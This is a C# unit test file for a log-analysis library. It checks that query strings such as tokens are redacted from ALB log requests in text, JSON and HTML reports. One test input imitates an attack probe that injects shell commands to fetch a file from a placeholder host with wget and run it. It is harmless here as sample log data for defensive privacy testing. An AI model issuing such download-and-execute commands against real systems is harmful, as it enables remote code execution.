using System.Text;
using AlbLogLambda.Core.Analysis;
using AlbLogLambda.Core.Rendering;

namespace AlbLogLambda.Core.Tests.Rendering;

public class UrlRedactionTests
{
    [Theory]
    [InlineData("\"GET https://x.example.com:443/a?token=s3cret HTTP/1.1\"", "\"GET https://x.example.com:443/a HTTP/1.1\"")]
    [InlineData("\"GET /path?x=1 HTTP/1.1\" \"https://r.example.com/?y=2\"", "\"GET /path HTTP/1.1\" \"https://r.example.com/\"")]
    [InlineData("no query here", "no query here")]
    [InlineData("\"Mozilla/5.0 (compatible; what?)\"", "\"Mozilla/5.0 (compatible; what?)\"")]
    [InlineData("https://a/?", "https://a/")]
    public void RemoveQueryStrings_UrlsAndPaths_LoseTheirQueryOnly(string text, string expected)
    {
        Assert.Equal(expected, UrlRedaction.RemoveQueryStrings(text));
    }

    [Theory]
    // The URI runs to the last " HTTP/": raw spaces before or after the '?' do not end it.
    [InlineData("\"GET https://h:443/a b?token=SECRET HTTP/1.1\"", "\"GET https://h:443/a b HTTP/1.1\"")]
    [InlineData("\"GET https://h:443/a?token=SECRET x HTTP/1.1\"", "\"GET https://h:443/a HTTP/1.1\"")]
    [InlineData("\"GET /a?q=SECRET HTTP/1.1 and HTTP/2.0\"", "\"GET /a HTTP/2.0\"")]
    [InlineData("\"GET https://h:443/a?token=SECRET HTTP/1.1 \"", "\"GET https://h:443/a HTTP/1.1 \"")]
    // No version: the rest of the field goes.
    [InlineData("\"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x;sh+SECRET -\"", "\"GET http://127.0.0.1:80/shell\"")]
    // A redirect or rewritten URL, raw spaces included.
    [InlineData("\"redirect\" \"https://r.example.com/x y?token=SECRET z\" \"-\"", "\"redirect\" \"https://r.example.com/x y\" \"-\"")]
    [InlineData("\"shop.example.com\" \"/rewritten/a b?token=SECRET\" \"-\"", "\"shop.example.com\" \"/rewritten/a b\" \"-\"")]
    // A sample cut off inside the request field.
    [InlineData("h2 2026 \"GET https://h:443/a b?token=SECRET HTT", "h2 2026 \"GET https://h:443/a b")]
    public void RemoveQueryStrings_RawSpacesInTheUrl_StillLoseTheWholeQuery(string text, string expected)
    {
        Assert.Equal(expected, UrlRedaction.RemoveQueryStrings(text));
    }

    [Fact]
    public void Reports_RawSpaceUris_NeverShowTheQuery_InText_Json_Entries_OrHtml()
    {
        const string Request = "GET https://h:443/a b?token=SECRET HTTP/1.1";
        var failed = TestLines.Line(target: "10.0.1.12:8080", times: "0.001 0.004 -1", status: "502 -", request: Request,
            tail: "\"-\" \"-\" TID_37acbe0641d1c34287fee137ef3a5286 \"h\" \"/rewritten/a b?token=SECRET\" \"-\"");
        var redirect = TestLines.Line(target: "-", times: "-1 -1 -1", status: "502 -", actions: "redirect", targetGroup: "-", request: Request)
            .Replace("\"redirect\" \"-\"", "\"redirect\" \"https://r.example.com/x y?token=SECRET z\"", StringComparison.Ordinal);
        var malformed = TestLines.Line(status: "5x2 -", request: Request);
        var other5xx = TestLines.Line(status: "503 -", request: Request);
        var log = string.Join('\n', failed, redirect, malformed, other5xx) + "\n";
        using var session = new AnalysisSession(new AnalysisOptions { CollectEntries = true });

        session.Analyze("raw-space.log", new MemoryStream(TestLines.Utf8(log)));
        var report = session.BuildReport();
        var json = new MemoryStream();
        JsonReportWriter.Write(json, report);
        var entries = new MemoryStream();
        session.WriteEntries(entries);
        var outputs = new Dictionary<string, string>
        {
            ["text"] = TextReportRenderer.Render(report),
            ["json"] = Encoding.UTF8.GetString(json.ToArray()),
            ["entries"] = Encoding.UTF8.GetString(entries.ToArray()),
            ["html"] = HtmlReportRenderer.Render(report),
        };

        // The lines did reach the outputs: two 502 samples, one malformed sample, three 5xx entries.
        Assert.Equal((2L, 1L), (report.Http502.Total + report.Http502.FixedResponse, report.Malformed));
        Assert.Equal(2, report.Causes.Sum(c => c.Samples.Count));
        Assert.Equal(3, outputs["entries"].Split('\n', StringSplitOptions.RemoveEmptyEntries).Length);
        Assert.Contains("GET https://h:443/a b HTTP/1.1", outputs["text"], StringComparison.Ordinal);
        Assert.Contains("https://r.example.com/x y\\u0022", outputs["json"], StringComparison.Ordinal);
        foreach (var (name, output) in outputs)
        {
            Assert.False(output.Contains("SECRET", StringComparison.Ordinal), $"{name} output shows the query:\n{output}");
        }
        // Asked for, the query is shown.
        Assert.Contains("SECRET", TextReportRenderer.Render(report, new TextReportOptions { ShowQuery = true }), StringComparison.Ordinal);
    }
}
